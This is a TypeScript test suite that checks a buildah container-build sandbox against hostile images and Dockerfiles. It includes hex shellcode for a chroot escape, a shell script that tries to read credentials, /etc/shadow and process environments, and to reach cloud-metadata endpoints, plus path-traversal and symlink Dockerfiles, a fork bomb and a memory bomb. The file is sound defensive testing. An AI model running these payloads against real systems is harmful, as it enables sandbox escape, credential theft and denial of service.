import type { ChildProcess } from 'node:child_process';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { chmod, copyFile, mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import type { Server } from 'node:http';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { buildahRunner } from '../../shared/adapters/buildah/runner.ts';
import { amd64, smallProgram } from '../../shared/adapters/buildah/small-program.ts';
import type { Sandboxed } from '../../shared/adapters/buildah/workplace.ts';
import { digestOf } from '../../shared/core/oci/digest.ts';
import { reachOf } from '../../shared/core/outbound/public-address.ts';
import type { BuildJob } from '../../shared/core/ports/runner.ts';
import type { RunningStack } from '../local/stack/running-stack.ts';
import { startRunningStack, stateFolder } from '../local/stack/running-stack.ts';
import { sandboxed, storesOf } from './builder.ts';
import { command } from './command.ts';
import { manage, pushBlobTo } from './regions.ts';

/** Nothing of a build may ever show these. */
const secrets = {
  file: 'canary-of-a-file',
  port: 'canary-of-a-port',
  login: 'canary-of-a-login',
  environment: 'canary-of-an-environment',
  secret: 'canary-of-another-job',
};

/**
 * What a static program does that leaves a `chroot`: `mkdir`, `chroot` into it with the working directory outside,
 * `chdir("..")` up to the top, `chroot(".")`; then it runs its arguments there.
 */
const leave = smallProgram(
  amd64,
  Buffer.from(
    '488b1c244c8d6424104c8d6cdc084983c508488d3d5c000000beed010000b8530000000f05488d3d49000000b8a10000000f05bd40000000488d3d3d000000b8500000000f05ffcd75ee488d3d2e000000b8a10000000f05498b3c244c89e64c89eab83b0000000f05bf61000000b83c0000000f052f746d702d78002e2e002e00',
    'hex',
  ),
);

/** Makes a thousand folders in each other, so that the path of the last has 21,000 characters, and waits. */
const deep = smallProgram(
  amd64,
  Buffer.from(
    'bde8030000488d3d25000000bec0010000b8530000000f05488d3d12000000b8500000000f05ffcd75dbb8220000000f05616161616161616161616161616161616161616100',
    'hex',
  ),
);

let work: Awaited<ReturnType<typeof stateFolder>>;
let stack: RunningStack;
let host: string;
let neighbour: ChildProcess;
let port: Server & { hits?: string[] };
let canary: string;
let login: string;
/** Of the stack: where it sends clients for blobs. */
let stores: string[];

beforeAll(async () => {
  work = await stateFolder();
  await chmod(work.path, 0o755);
  stack = await startRunningStack(join(work.path, 'state'));
  ({ host } = new URL(stack.url));
  canary = join(work.path, 'canary');
  await writeFile(canary, secrets.file, { mode: 0o644 });
  login = join(work.path, 'auth.json');
  await writeFile(
    login,
    JSON.stringify({
      auths: { 'registry.invalid': { auth: Buffer.from(`user:${secrets.login}`).toString('base64') } },
    }),
    { mode: 0o600 },
  );
  vi.stubEnv('REGISTRY_AUTH_FILE', login);
  vi.stubEnv('LONGSHORE_CANARY', secrets.environment);
  neighbour = spawn('sleep', ['4242'], { stdio: 'ignore' });
  const hits: string[] = [];
  port = Object.assign(
    createServer((request, response) => {
      hits.push(request.url ?? '');
      response.end(secrets.port);
    }),
    { hits },
  );
  port.listen(0, '0.0.0.0');
  await once(port, 'listening');
  await hostileBase();
  stores = await storesOf(stack.url, 'team/base');
}, 300_000);

afterAll(async () => {
  vi.unstubAllEnvs();
  neighbour.kill();
  port.close();
  expect(await stack.stop()).toBe(0);
  await work.remove();
});

const canaryPort = () => (port.address() as AddressInfo).port;
const storage = () => [
  '--storage-driver',
  'vfs',
  '--root',
  join(work.path, 'storage'),
  '--runroot',
  join(work.path, 'run'),
];

/**
 * Everything that is tried with what a step has: files, processes, ports and keys of the machine. Only this test's own
 * are aimed at: where a build is not kept apart, the attack succeeds, and a signal to all would end every process of
 * the machine.
 */
const attack = () => `#!/bin/busybox sh
B=/bin/busybox
# Where it could not leave, what it starts is itself.
[ -n "$AGAIN" ] && exit 0
export AGAIN=1
say() { echo "TRIED $1: $($B cat 2>&1 | $B head -c 2000)"; }
echo "ATTACK BEGINS"
$B cat ${canary} 2>&1 | say file
$B cat ${join(work.path, 'state', 'keys.json')} 2>&1 | say keys
/bin/leave /bin/sh -c 'cat ${canary} ${join(work.path, 'state', 'keys.json')} ${login} /login/auth.json /etc/shadow /proc/*/environ; id > ${join(work.path, 'owned')}; ls -la /' 2>&1 | say leave
/bin/leave /bin/busybox cat ${canary} 2>&1 | say leave-busybox
for p in /proc/[0-9]*; do $B cat $p/root${canary} $p/root/login/auth.json $p/environ; done 2>&1 | say proc
$B ps 2>&1 | say processes
$B kill -9 ${neighbour.pid} 2>&1 | say kill
$B ip addr 2>&1 | say network
for at in 127.0.0.1 ${addresses().join(' ')} 10.0.2.2 169.254.169.254; do $B timeout 3 $B wget -q -O - http://$at:${canaryPort()}/; done 2>&1 | say port
$B timeout 3 $B wget -q -O - http://${host}/v2/_catalog 2>&1 | say registry
$B timeout 3 $B wget -q -O - http://169.254.169.254/metadata/instance 2>&1 | say metadata
https_proxy= http_proxy=http://127.0.0.1:3128 $B timeout 3 $B wget -q -O - http://127.0.0.1:${canaryPort()}/ 2>&1 | say proxy
$B env 2>&1 | say environment
$B mknod /vda b 254 0 2>&1 | say mknod
$B dd if=/dev/planted bs=512 count=1 2>&1 | say device
$B mount -t proc proc /proc 2>&1 | say mount
$B dmesg 2>&1 | $B head -3 | say dmesg
$B grep -E 'Cap|NoNewPrivs|Seccomp:' /proc/self/status | say rights
$B cat /proc/self/uid_map | say ids
echo "ATTACK ENDS"
exit 0
`;

function addresses(): string[] {
  return Object.values(networkInterfaces())
    .flatMap((each) => each ?? [])
    .filter(({ internal, family }) => !internal && family === 'IPv4')
    .map(({ address }) => address);
}

async function contextOf(
  name: string,
  dockerfile: string,
  files: Readonly<Record<string, string | Buffer>> = {},
): Promise<string> {
  const context = join(work.path, `context-${name}`);
  await mkdir(context, { recursive: true });
  await copyFile('/bin/busybox', join(context, 'busybox'));
  for (const [file, bytes] of Object.entries(files)) await writeFile(join(context, file), bytes, { mode: 0o755 });
  await writeFile(join(context, 'Dockerfile'), dockerfile);
  return context;
}

/** Whose `/bin/sh` is the attack, pushed by somebody who may do no more than that. */
async function hostileBase(): Promise<void> {
  const dockerfile =
    'FROM scratch\nCOPY busybox /bin/busybox\nCOPY leave /bin/leave\nCOPY attack /bin/sh\nCOPY attack ' +
    '/attack\nCOPY planted.tar /planted.tar\n';
  const context = await contextOf('base', dockerfile, { leave, attack: attack(), 'planted.tar': '' });
  await command('mknod', [join(context, 'planted'), 'b', '254', '0']);
  await command('tar', [
    '-cf',
    join(context, 'planted.tar'),
    '--transform',
    's,planted,dev/planted,',
    '-C',
    context,
    'planted',
  ]);
  await command('rm', [join(context, 'planted')]);
  await writeFile(
    join(context, 'Dockerfile'),
    dockerfile.replace('COPY planted.tar /planted.tar', 'ADD planted.tar /'),
  );
  await command('buildah', [
    ...storage(),
    'bud',
    '--isolation',
    'chroot',
    '--format',
    'oci',
    '-t',
    'localhost/hostile',
    context,
  ]);
  await command('buildah', [
    ...storage(),
    'push',
    '--tls-verify=false',
    'localhost/hostile',
    `docker://${host}/team/base:1`,
  ]);
}

async function jobOf(
  name: string,
  dockerfile: string,
  more: Partial<BuildJob> = {},
  files: Readonly<Record<string, string | Buffer>> = {},
): Promise<BuildJob> {
  const [tar, context] = [join(work.path, `${name}.tar`), await contextOf(name, dockerfile, files)];
  await command('tar', ['-cf', tar, '-C', context, '.']);
  return {
    id: name,
    context: new Blob([await readFile(tar)]).stream(),
    annotations: {},
    secrets: {},
    dockerfile: 'Dockerfile',
    pins: {},
    arguments: {},
    platform: 'linux/amd64',
    plainHosts: [host],
    ownHosts: [host],
    timeoutMs: 60_000,
    ...more,
  };
}

async function built(
  job: BuildJob,
  how: Sandboxed = sandboxed(),
): Promise<{ log: string; outcome: Awaited<ReturnType<ReturnType<typeof buildahRunner>['build']>> }> {
  let log = '';
  const outcome = await buildahRunner({ ...how, stores }).build(
    job,
    (text) => {
      log += text;
    },
    new AbortController().signal,
  );
  if (process.env.SHOW_BUILDS !== undefined) console.log(`${job.id}: ${log}`);
  return { log, outcome };
}

function tried(log: string, what: string): string {
  return new RegExp(`^TRIED ${what}: ([^]*?)(?=^TRIED |^ATTACK )`, 'm').exec(log)?.[1] ?? 'not tried';
}

/** What must be true of any log, whatever was tried. */
function nothingReached(log: string): void {
  for (const secret of Object.values(secrets)) expect(log).not.toContain(secret);
  const keys = JSON.parse(readFileSync(join(work.path, 'state', 'keys.json'), 'utf8')) as Record<string, unknown>;
  for (const key of Object.values(keys).flat()) expect(log).not.toContain(String(key));
  expect(port.hits).toEqual([]);
  expect(neighbour.exitCode ?? neighbour.signalCode).toBeNull();
}

const unreached = async (log: string) => {
  nothingReached(log);
  expect(await readdir(work.path)).not.toContain('owned');
};

describe('a step that a hostile base runs', () => {
  it('reaches no file, process, port or key of the machine', async () => {
    const { log, outcome } = await built(await jobOf('victim', `FROM ${host}/team/base:1\nRUN make everything\n`));
    expect(log).toContain('ATTACK ENDS');
    await unreached(log);
    expect(tried(log, 'processes')).not.toContain('buildah');
    expect(tried(log, 'network')).not.toMatch(/\beth|\btap|inet (?!127\.)/);
    expect(tried(log, 'ids').trim()).toMatch(/^0 +1 +65536$/);
    // Of CHOWN, DAC_OVERRIDE, FOWNER, FSETID, SETGID and SETUID: no more.
    expect(tried(log, 'rights')).toMatch(/CapBnd:\s+00000000000000db/);
    expect(tried(log, 'rights')).toMatch(/NoNewPrivs:\s+1/);
    expect(outcome.is).toBe('built');
    if (outcome.is === 'built') await outcome.image.discard();
  });

  it('reaches nothing from the test of an image either', async () => {
    const { outcome } = await built(await jobOf('tested', `FROM ${host}/team/base:1\n`));
    if (outcome.is !== 'built') throw new Error(outcome.why);
    let log = '';
    const place = await buildahRunner(sandboxed({ stores })).build(
      await jobOf('tested-again', `FROM ${host}/team/base:1\n`),
      (text) => {
        log += text;
      },
      new AbortController().signal,
    );
    if (place.is !== 'built') throw new Error(place.why);
    expect(await place.image.test(['/attack'], 60_000)).toEqual({ is: 'passed' });
    expect(log).toContain('ATTACK ENDS');
    await unreached(log);
    expect(tried(log, 'rights')).toMatch(/CapBnd:\s+00000000000000db/);
    await Promise.all([outcome.image.discard(), place.image.discard()]);
  });

  it('is nobody of this machine while it runs', async () => {
    const cancelled = new AbortController();
    const building = buildahRunner(sandboxed({ stores })).build(
      await jobOf('nobody', `FROM ${host}/team/base:1\nRUN ["/bin/busybox", "sleep", "988"]\n`),
      () => undefined,
      cancelled.signal,
    );
    building.catch(() => undefined);
    const uid = async () =>
      (await command('sh', ['-c', 'ps -eo uid,args | grep "[/]bin/busybox sleep 988$" | head -1 || true']))
        .trim()
        .split(/\s+/)[0] ?? '';
    await vi.waitFor(
      async () => {
        expect(Number(await uid())).toBeGreaterThan(65_536);
      },
      { timeout: 30_000, interval: 100 },
    );
    cancelled.abort();
    await expect(building).rejects.toThrow();
    await vi.waitFor(
      async () => {
        expect(await uid()).toBe('');
      },
      { timeout: 5_000, interval: 100 },
    );
  });

  it('ends with the process that has started it, however that ends: nobody looks at its time and disk any more', async () => {
    const jobs = join(work.path, 'jobs-of-another');
    await mkdir(jobs);
    const archive = join(work.path, 'outlives.tar');
    await command('tar', [
      '-cf',
      archive,
      '-C',
      await contextOf('outlives', 'FROM scratch\nCOPY busybox /bin/busybox\nRUN ["/bin/busybox", "sleep", "989"]\n'),
      '.',
    ]);
    const registry = spawn(process.execPath, [fileURLToPath(new URL('build-once.ts', import.meta.url)), archive], {
      stdio: 'ignore',
      env: { ...process.env, TMPDIR: jobs },
    });
    const running = () => command('sh', ['-c', 'ps -eo args | grep "^/bin/busybox sleep 989$" || true']);
    await vi.waitFor(
      async () => {
        expect(await running()).not.toBe('');
      },
      { timeout: 30_000, interval: 100 },
    );
    registry.kill('SIGKILL');
    await vi.waitFor(
      async () => {
        expect(await running()).toBe('');
      },
      { timeout: 5_000, interval: 100 },
    );
  });

  it('reaches nothing where steps are kept by a chroot in the sandbox', async () => {
    const { log, outcome } = await built(
      await jobOf('chrooted', `FROM ${host}/team/base:1\nRUN make everything\n`),
      sandboxed({ steps: 'chroot' }),
    );
    expect(tried(log, 'leave')).not.toBe('not tried');
    await unreached(log);
    if (outcome.is === 'built') await outcome.image.discard();
  });

  it('reaches no port of the machine where its network is opened', async () => {
    const { log, outcome } = await built(
      await jobOf('opened', `FROM ${host}/team/base:1\nRUN make everything\n`),
      sandboxed({ network: 'public' }),
    );
    expect(log).toContain('ATTACK ENDS');
    expect(tried(log, 'proxy')).toMatch(/403|forbidden/i);
    expect(tried(log, 'registry')).not.toContain('repositories');
    await unreached(log);
    if (outcome.is === 'built') await outcome.image.discard();
  });
});

describe('a hostile Dockerfile', () => {
  const cases: [string, () => string][] = [
    [
      'ADD of a port of this machine',
      () =>
        `FROM ${host}/team/base:1\nADD http://127.0.0.1:${canaryPort()}/add /add\nRUN ["/bin/busybox", "cat", "/add"]\n`,
    ],
    [
      "ADD of this machine's other address",
      () =>
        `FROM ${host}/team/base:1\nADD http://${addresses()[0] ?? '10.0.0.1'}:${canaryPort()}/add /add\nRUN ` +
        '["/bin/busybox", "cat", "/add"]\n',
    ],
    [
      'ADD of a metadata service',
      () =>
        `FROM ${host}/team/base:1\nADD http://169.254.169.254/latest/meta-data/ /add\nRUN ["/bin/busybox", "cat", "/add"]\n`,
    ],
    ['FROM a port of this machine', () => `FROM 127.0.0.1:${canaryPort()}/team/base:1\n`],
    [
      'COPY --from a port of this machine',
      () => `FROM ${host}/team/base:1\nCOPY --from=127.0.0.1:${canaryPort()}/x:1 / /\n`,
    ],
    ['a syntax directive', () => `# syntax=127.0.0.1:${canaryPort()}/frontend:1\nFROM scratch\nCOPY Dockerfile /\n`],
    [
      'COPY of files of the machine',
      () =>
        `FROM ${host}/team/base:1\nCOPY ../../../../../../..${canary} /stolen\nRUN ["/bin/busybox", "cat", "/stolen"]\n`,
    ],
    [
      'a mount of a link to the root',
      () =>
        `FROM scratch AS evil\nCOPY --from=${host}/team/base:1 /bin/busybox /bin/busybox\nFROM ` +
        `${host}/team/base:1 AS linked\nRUN ["/bin/busybox", "ln", "-s", "/", "/out"]\nFROM ` +
        `${host}/team/base:1\nRUN --mount=type=bind,from=linked,source=/out,target=/host,rw ["/bin/busybox", ` +
        `"sh", "-c", "/bin/busybox cat /host${canary} /host/login/auth.json /host/secrets/0; /bin/busybox ls -la /host /host/login; echo x > /host/job/planted"]\n`,
    ],
    [
      'a cache that leads out',
      () =>
        `FROM ${host}/team/base:1\nRUN --mount=type=cache,id=../../../../../../..,target=/host ["/bin/busybox", "sh", "-c", "/bin/busybox find /host -maxdepth 3; /bin/busybox cat /host/login/auth.json /host${canary}"]\n`,
    ],
    [
      'a cache of a source outside',
      () =>
        `FROM ${host}/team/base:1\nRUN --mount=type=cache,source=../../../../../../../../login,target=/host ["/bin/busybox", "sh", "-c", "/bin/busybox cat /host/auth.json"]\n`,
    ],
    ['a network of its own choice', () => `FROM ${host}/team/base:1\nRUN --network=host make everything\n`],
    ['rights of its own choice', () => `FROM ${host}/team/base:1\nRUN --security=insecure make everything\n`],
    [
      'a volume at a place of the machine',
      () => `FROM ${host}/team/base:1\nVOLUME ["/proc", "/login", "/job"]\nRUN make everything\n`,
    ],
    ['a user of its own choice', () => `FROM ${host}/team/base:1\nUSER 4294967294:0\nRUN make everything\n`],
    [
      "secrets that are not the job's",
      () =>
        `FROM ${host}/team/base:1\nRUN --mount=type=secret,id=../login/auth.json ["/bin/busybox", "sh", "-c", "/bin/busybox find /run; /bin/busybox cat /run/secrets/*"]\n`,
    ],
  ];

  it.each(cases)('with %s reaches nothing of the machine', async (name, dockerfile) => {
    const { log, outcome } = await built(
      await jobOf(name.replaceAll(/[^a-z]/gi, '-'), dockerfile(), { secrets: { npm: secrets.secret } }),
    );
    await unreached(log + (outcome.is === 'failed' ? outcome.why : ''));
    if (outcome.is === 'built') await outcome.image.discard();
  });

  it.each([
    ['Dockerfile', '/login/auth.json'],
    ['Dockerfile', '/proc/self/environ'],
    ['.dockerignore', '/login/auth.json'],
    ['.containerignore', '/secrets/0'],
    ['copied', '/login/auth.json'],
    ['copied', '/proc/1/environ'],
  ])('whose %s is a link to %s shows nothing of it', async (file, to) => {
    const name = `link-${file}-${to}`.replaceAll(/[^a-z]/gi, '-');
    const context = await contextOf(
      name,
      `FROM ${host}/team/base:1\nCOPY copied* /copied/\nRUN ["/bin/busybox", "sh", "-c", "/bin/busybox find /copied; /bin/busybox cat /copied/*; /bin/busybox find / -xdev -name environ"]\n`,
      { copied: 'mine' },
    );
    await command('ln', ['-sf', to, join(context, file)]);
    await command('tar', ['-cf', join(work.path, `${name}.tar`), '-C', context, '.']);
    const job = {
      ...(await jobOf('unused', 'FROM scratch\n')),
      secrets: { npm: secrets.secret },
      context: new Blob([await readFile(join(work.path, `${name}.tar`))]).stream(),
    };
    const { log, outcome } = await built(job);
    await unreached(log + (outcome.is === 'failed' ? outcome.why : ''));
    if (outcome.is === 'built') await outcome.image.discard();
  });

  it.each(['/login/auth.json', '/secrets/0', '/proc/self/environ'])(
    'that is a link to what the C preprocessor is run over shows nothing of %s',
    async (file) => {
      const context = await contextOf(`cpp${file.replaceAll('/', '-')}`, 'FROM scratch\n', {
        'evil.in': `FROM ${host}/team/base:1\n#include "${file}"\n`,
      });
      await command('ln', ['-sf', 'evil.in', join(context, 'Dockerfile')]);
      const archive = `${context}.tar`;
      await command('tar', ['-cf', archive, '-C', context, '.']);
      const { log, outcome } = await built({
        ...(await jobOf('unused', 'FROM scratch\n')),
        secrets: { npm: secrets.secret },
        access: { logins: [{ host, user: 'job', password: secrets.login }], abroad: [] },
        context: new Blob([await readFile(archive)]).stream(),
      });
      expect(outcome).toMatchObject({ is: 'failed', why: expect.stringContaining('preprocessor') as string });
      expect(log).not.toMatch(/auths|canary|PATH=/i);
    },
  );

  it('that is there twice, and once too large to be read, is not read', async () => {
    const [old, moved] = [digestOf(Buffer.from('old')), digestOf(Buffer.from('moved'))];
    const context = await contextOf('twice', `FROM ${host}/team/base:1@${old}\n`);
    await command('tar', ['-cf', `${context}.tar`, '-C', context, '.']);
    await writeFile(join(context, 'Dockerfile'), Buffer.alloc(2 * 1024 ** 2, '#'));
    await command('tar', ['-rf', `${context}.tar`, '-C', context, './Dockerfile']);
    const { outcome } = await built({
      ...(await jobOf('unused', 'FROM scratch\n')),
      pins: { [old]: moved },
      context: new Blob([await readFile(`${context}.tar`)]).stream(),
    });
    expect(outcome).toMatchObject({ is: 'failed', why: 'Dockerfile has more than 1048576 bytes' });
  });

  it('leaves nothing behind, however deep its folders are when it is stopped', async () => {
    vi.stubEnv('TMPDIR', join(work.path, 'jobs'));
    await mkdir(join(work.path, 'jobs'));
    const { log, outcome } = await built(
      await jobOf('deep', `FROM ${host}/team/base:1\nCOPY deep /deep\nRUN ["/deep"]\n`, { timeoutMs: 8_000 }, { deep }),
    );
    expect(outcome).toMatchObject({ is: 'failed', why: expect.stringContaining('took longer') as string });
    expect(log).not.toContain('could not be removed');
    expect(await readdir(join(work.path, 'jobs'))).toEqual([]);
    vi.stubEnv('TMPDIR', undefined);
  });

  it('reaches nothing by what its base has it add', async () => {
    const context = await contextOf(
      'onbuild',
      `FROM ${host}/team/base:1\nONBUILD ADD http://127.0.0.1:${canaryPort()}/onbuild /onbuild\nONBUILD RUN ["/bin/busybox", "cat", "/onbuild"]\n`,
    );
    await command('buildah', [
      ...storage(),
      'bud',
      '--isolation',
      'chroot',
      '--tls-verify=false',
      '--format',
      'docker',
      '-t',
      'localhost/onbuild',
      context,
    ]);
    await command('buildah', [
      ...storage(),
      'push',
      '--tls-verify=false',
      '--format',
      'v2s2',
      'localhost/onbuild',
      `docker://${host}/team/onbuild:1`,
    ]);
    const { log, outcome } = await built(await jobOf('on-built', `FROM ${host}/team/onbuild:1\n`));
    expect(outcome.is).toBe('failed');
    await unreached(log);
  });

  it('is sent to no other place by a registry that it names', async () => {
    const realms: string[] = [];
    const evil = createServer((request, response) => {
      realms.push(request.url ?? '');
      response
        .writeHead(401, { 'www-authenticate': `Bearer realm="http://127.0.0.1:${canaryPort()}/token",service="x"` })
        .end();
    }).listen(0, '127.0.0.1');
    await once(evil, 'listening');
    const evilHost = `127.0.0.1:${(evil.address() as AddressInfo).port}`;
    const { log, outcome } = await built(
      await jobOf('realm', `FROM ${evilHost}/x:1\n`, { plainHosts: [host, evilHost] }),
    );
    expect(outcome.is).toBe('failed');
    expect(realms.length).toBeGreaterThan(0);
    await unreached(log);
    // Where the operator has not opened loopback, it is not asked at all.
    const asked = realms.length;
    await built(
      await jobOf('realm-closed', `FROM ${evilHost}/x:1\n`, { plainHosts: [host, evilHost] }),
      sandboxed({ reach: reachOf([]) }),
    );
    expect(realms).toHaveLength(asked);
    evil.close();
  });
});

describe('a build that takes too much', () => {
  const others = async () => {
    const began = performance.now();
    expect((await fetch(`${stack.url}/v2/team/base/manifests/1`)).status).toBe(200);
    return performance.now() - began;
  };
  const run = (text: string) => `FROM ${host}/team/base:1\nRUN ["/bin/busybox", "sh", "-c", ${JSON.stringify(text)}]\n`;

  it.each([
    ['memory', 'x=aaaaaaaaaaaaaaaa; while true; do x=$x$x; done', 'memory=192MiB', /killed|exit code 137/],
    [
      'memory and files of it',
      '/bin/busybox dd if=/dev/zero of=/dev/shm/x bs=1M; x=a; while true; do x=$x$x; done',
      'memory=192MiB',
      /killed|exit code 137/,
    ],
    [
      'processes',
      'bomb() { bomb | bomb & bomb; }; bomb; /bin/busybox sleep 20; exit 1',
      'pids=128',
      /can't fork|temporarily unavailable/,
    ],
    ['disk', '/bin/busybox dd if=/dev/zero of=/x bs=1M; exit 1', 'disk=256MiB', /took more than the 256 MiB of disk/],
    [
      'many small files',
      'i=0; while true; do [ $((i%1000)) -eq 0 ] && /bin/busybox mkdir -p /d/$((i/1000)); echo x > /d/$((i/1000))/$i; i=$((i+1)); done',
      'disk=96MiB',
      /took more than the 96 MiB of disk/,
    ],
    ['time', '/bin/busybox sleep 500', '', /took longer than 30 s/],
  ])('by %s fails within its limits, and leaves the others alone', async (name, text, limits, because) => {
    const building = built(
      await jobOf(`much-${name.replaceAll(' ', '-')}`, run(text), { timeoutMs: 30_000 }),
      sandboxed({ limits }),
    );
    const times: number[] = [];
    const over = new AbortController();
    const watching = (async () => {
      while (!over.signal.aborted) {
        times.push(await others());
        await new Promise((passed) => setTimeout(passed, 100));
      }
    })();
    const { outcome, log } = await building;
    over.abort();
    await watching;
    console.log(
      `${name}: ${outcome.is === 'failed' ? outcome.why : 'built'}; slowest pull beside it ${Math.round(Math.max(...times))} ms`,
    );
    expect(outcome.is).toBe('failed');
    expect(`${log}${outcome.is === 'failed' ? outcome.why : ''}`).toMatch(because);
    expect(Math.max(...times)).toBeLessThan(5_000);
    await vi.waitFor(
      async () => {
        expect(await command('sh', ['-c', 'ps -eo uid,args | grep "^ *10[0-9]\\{5\\} " || true'])).toBe('');
      },
      { timeout: 10_000, interval: 200 },
    );
  });
});

describe('an ordinary task on a base that somebody else has pushed', () => {
  it('gives nothing of the machine away, end to end', async () => {
    const context = await contextOf('ordinary', `FROM ${host}/team/base:1\nRUN make everything\n`);
    await command('tar', ['-czf', join(work.path, 'ordinary.tgz'), '-C', context, '.']);
    const bytes = await readFile(join(work.path, 'ordinary.tgz'));
    await pushBlobTo(stack.url, 'contexts', bytes);
    await manage(stack.url, 'PUT', '/tasks/ordinary', {
      image: 'ordinary:1',
      context: { repository: 'contexts', digest: digestOf(bytes) },
      test: { command: ['/attack'] },
    });
    await manage(stack.url, 'POST', '/tasks/ordinary/run');
    const finished = await vi.waitFor(
      async () => {
        const { builds } = (await manage(stack.url, 'GET', '/builds')) as {
          builds: { id: string; state: string; counts: Record<string, number> }[];
        };
        expect(builds.map(({ state }) => state)).toEqual(['finished']);
        return builds[0];
      },
      { timeout: 120_000, interval: 500 },
    );
    expect(finished?.counts).toMatchObject({ succeeded: 1 });
    const log = await (await fetch(`${stack.url}/api/v1/builds/${finished?.id ?? ''}/log?image=ordinary:1`)).text();
    expect(log.split('ATTACK ENDS').length).toBe(3);
    await unreached(log);
  });
});
